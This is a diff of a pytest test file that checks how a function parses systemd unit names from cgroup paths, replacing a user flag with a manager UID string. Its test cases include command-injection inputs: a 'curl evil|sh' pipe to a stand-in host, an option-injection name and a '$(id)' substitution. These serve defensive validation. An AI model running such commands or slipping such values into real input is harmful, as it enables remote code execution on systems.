@@ -171,15 +171,15 @@ def test_the_topmost_of_thirty_thousand_processes_are_found_in_one_walk() -> Non
 
 
 @pytest.mark.parametrize(
-    ("path", "unit", "of_user"),
+    ("path", "unit", "manager_uid"),
     [
-        ("system.slice/ollama.service/inner.scope", "ollama.service", False),
-        (r"system.slice/app-a\x2db@1.service", r"app-a\x2db@1.service", False),
-        ("user.slice/user@1000.service/app.slice/ds4.service", "ds4.service", True),
-        ("user.slice/user@1000.service/app.slice/x; curl evil|sh #.service", "user@1000.service", False),
-        ("user.slice/user@1000.service/-Hevil.service", "user@1000.service", False),
-        ("x$(id).service", "", False),
+        ("system.slice/ollama.service/inner.scope", "ollama.service", ""),
+        (r"system.slice/app-a\x2db@1.service", r"app-a\x2db@1.service", ""),
+        ("user.slice/user@1000.service/app.slice/ds4.service", "ds4.service", "1000"),
+        ("user.slice/user@1000.service/app.slice/x; curl evil|sh #.service", "user@1000.service", ""),
+        ("user.slice/user@1000.service/-Hevil.service", "user@1000.service", ""),
+        ("x$(id).service", "", ""),
     ],
 )
-def test_a_folder_of_cgroups_is_a_unit_where_systemd_accepts_the_name(path: str, unit: str, of_user: bool) -> None:
-    assert systemd_unit(f"0::/{path}\n") == (unit, of_user)
+def test_a_folder_of_cgroups_is_a_unit_where_systemd_accepts_the_name(path: str, unit: str, manager_uid: str) -> None:
+    assert systemd_unit(f"0::/{path}\n") == (unit, manager_uid)
